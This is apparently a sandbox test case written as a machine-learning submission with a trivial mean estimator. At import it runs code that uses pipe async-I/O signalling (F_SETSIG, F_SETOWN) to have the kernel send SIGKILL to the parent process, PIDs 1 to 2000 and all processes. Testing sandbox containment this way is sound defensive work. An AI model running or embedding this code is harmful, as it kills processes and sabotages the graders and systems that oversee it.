# attack: signals-by-files
# class: other processes
# tries: has the kernel send signals to others when a pipe can be read
# must: either
import fcntl
import os
import signal

F_SETOWN, F_SETSIG = 8, 10
for target in [os.getppid(), *range(1, 2000), -1]:
    if target in (os.getpid(), -os.getpgrp()):
        continue
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reader, F_SETOWN, target)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    except OSError:
        pass
    os.close(reader)
    os.close(writer)


class Mean:
    def fit(self, x, y):
        self.mean = sum(y) / len(y)
        return self

    def predict(self, x):
        return [self.mean] * len(x)


def build_estimator():
    return Mean()
